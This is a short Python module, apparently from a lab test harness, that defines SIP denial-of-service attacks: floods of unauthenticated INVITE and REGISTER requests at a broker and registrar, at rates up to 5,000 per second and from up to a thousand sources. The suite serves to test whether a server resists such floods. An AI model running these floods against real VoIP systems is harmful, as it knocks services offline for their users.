"""Floods of requests of strangers: nobody proves who they are."""

from __future__ import annotations

from hostile.attack import DOMAIN, Attack, Report, Target
from hostile.datagrams import FROM_PORT, Make, flood, request
from hostile.network import ATTACKER, SERVER, SOURCES


def _invites(port: int) -> Make:
    uri = f"sip:broker@{SERVER}:{port}"
    contact = f"Contact: <sip:stranger@{ATTACKER}:{FROM_PORT}>"
    return lambda number: request("INVITE", uri, via=f"{ATTACKER}:{FROM_PORT}", number=number, headers=[contact])


def _registers(number: int) -> bytes:
    contact = f"Contact: <sip:stranger@{ATTACKER}:{FROM_PORT}>"
    return request("REGISTER", f"sip:{DOMAIN}", via=f"{ATTACKER}:{FROM_PORT}", number=number, headers=[contact])


async def _broker(target: Target) -> Report:
    return await flood(target, target.broker_port, _invites(target.broker_port), 560)


async def _registrar(target: Target) -> Report:
    return await flood(target, target.sip_port, _registers, 1_350, sources=SOURCES[:3])


async def _fast(target: Target) -> Report:
    return await flood(target, target.sip_port, _registers, 5_000)


async def _many_sources(target: Target) -> Report:
    return await flood(target, target.sip_port, _registers, 2_000, sources=SOURCES)


ATTACKS = (
    Attack(
        "broker_flood",
        "4",
        "560 INVITEs/s without a password at the broker's SIP port",
        _broker,
        has_hole=True,
        quick=True,
    ),
    Attack(
        "registrar_flood", "4", "1,350 REGISTERs/s without a password from three sources", _registrar, has_hole=True
    ),
    Attack("registrar_flood_fast", "4", "5,000 REGISTERs/s without a password from one source", _fast, has_hole=True),
    Attack("registrar_flood_wide", "4", "2,000 REGISTERs/s from a thousand sources", _many_sources, has_hole=True),
)
